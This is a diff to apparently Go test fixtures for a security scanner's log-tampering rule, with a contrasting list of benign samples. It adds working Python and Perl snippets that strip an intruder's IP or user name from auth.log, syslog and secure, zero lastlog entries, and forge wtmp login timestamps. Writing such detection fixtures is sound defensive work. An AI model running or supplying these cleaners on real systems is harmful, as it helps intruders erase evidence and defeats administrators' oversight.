@@ -61,6 +61,10 @@ var stealthSeeds = []stealthSeed{
 	// Log cleaners in Python and Perl: login records rewritten without the intruder's records,
 	// system logs written back without the lines naming the intruder.
 	{"log-cleaner", RuleLogWipe, audit.Low, "/root/.c/clean.py", pyUtmpCleaner},
+	// login records unpacked by their layout and written back: an editor, high
+	{"login-record-editor", RuleLogWipe, audit.High, "/usr/local/lib/python3/dist-packages/.lh/lh.py", pyUtmpCleaner},
+	{"login-record-editor", RuleLogWipe, audit.High, "/root/.c/w.pl", plUtmpCleaner},
+	{"login-record-editor", RuleLogWipe, audit.High, "/usr/share/misc/.rec.py", pyUtmpClass},
 	{"log-cleaner", RuleLogWipe, audit.Low, "/root/.c/clean.py", "ip = '203.0.113.9'\nfor log in ['/var/log/auth.log', '/var/log/syslog']:\n    with open(log) as f:\n        keep = [l for l in f if ip not in l]\n    with open(log, 'w') as f:\n        f.writelines(keep)\n"},
 	{"log-cleaner", RuleLogWipe, audit.Low, "/root/.c/clean.py", "import os, tempfile\nsrc = '/var/log/secure'\nfd, tmp = tempfile.mkstemp()\nwith open(src) as i, os.fdopen(fd, 'w') as o:\n    for line in i:\n        if 'sysd' not in line:\n            o.write(line)\nos.rename(tmp, src)\n"},
 	{"log-cleaner", RuleLogWipe, audit.Low, "/root/.c/clean.py", "import pwd\nuid = pwd.getpwnam('sysd').pw_uid\nwith open('/var/log/lastlog', 'r+b') as f:\n    f.seek(uid * 292)\n    f.write(b'\\0' * 292)\n"},
@@ -137,6 +141,30 @@ for p in ('/var/log/wtmp', '/var/run/utmp', '/var/log/btmp'):
     scrub(p, b'sysd')
 `
 
+const pyUtmpClass = `import struct, argparse
+class Rec(object):
+    LAYOUT = b'hI32s4s32s256shhiii4s4s4s4s20s'
+    def __init__(self, raw):
+        (self.ut_type, self.ut_pid, self.ut_line, self.ut_id, self.ut_user, self.ut_host) = struct.unpack(self.LAYOUT, raw)[:6]
+class Store(object):
+    def __init__(self, fname='/var/log/wtmp'):
+        self.fname = fname
+    def forge(self, user, when):
+        size = struct.calcsize(Rec.LAYOUT)
+        with open(self.fname, 'r+b') as f:
+            data = bytearray(f.read())
+            for off in range(0, len(data), size):
+                r = Rec(bytes(data[off:off + size]))
+                if r.ut_user.rstrip(b'\0') == user:
+                    struct.pack_into('i', data, off + 340, when)
+            f.seek(0)
+            f.write(data)
+p = argparse.ArgumentParser()
+p.add_argument('--user')
+a = p.parse_args()
+Store().forge(a.user.encode(), 1600000000)
+`
+
 const plUtmpCleaner = `my $u = 'sysd';
 open(my $in, '<', '/var/log/wtmp') or die;
 binmode $in;
@@ -174,6 +202,7 @@ for i in range(0, len(enc), 60):
 
 // Clean shapes: the same tools, the way clean software uses them.
 var stealthClean = []struct{ name, path, text string }{
+	{"login record reader", "/usr/local/bin/lastlogins.py", "import struct\nFMT = 'hi32s4s32s256shhiii4i20s'\nSIZE = struct.calcsize(FMT)\nwith open('/var/log/wtmp', 'rb') as f:\n    while True:\n        rec = f.read(SIZE)\n        if len(rec) < SIZE:\n            break\n        t = struct.unpack(FMT, rec)\n        print(t[4].rstrip(b'\\0').decode(), t[5].rstrip(b'\\0').decode())\n"},
 	{"installer asking for a database password", "/usr/local/bin/app-setup", "import getpass, os, subprocess\npw = getpass.getpass()\nwith open('/etc/app/db.conf', 'a') as f:\n    f.write('password = ' + pw + '\\n')\nos.chmod('/etc/app/db.conf', 0o600)\nsubprocess.run(['/usr/bin/systemctl', 'restart', 'app'])\n"},
 	{"client asking for its password after stty -echo", "/usr/local/bin/vault-login", "#!/usr/bin/python3\nimport os, subprocess\nos.system('stty -echo')\npw = input('Vault password: ')\nos.system('stty echo')\nsubprocess.run(['vault', 'login', '-method=userpass', 'password=' + pw])\n"},
 	{"reproducible build", "/build/pkg/debian/rules.sh", "#!/bin/sh\nmake\nfind build -newer build/stamp -exec touch -d @$SOURCE_DATE_EPOCH {} +\ntouch -d \"@${SOURCE_DATE_EPOCH}\" build/out.tar"},
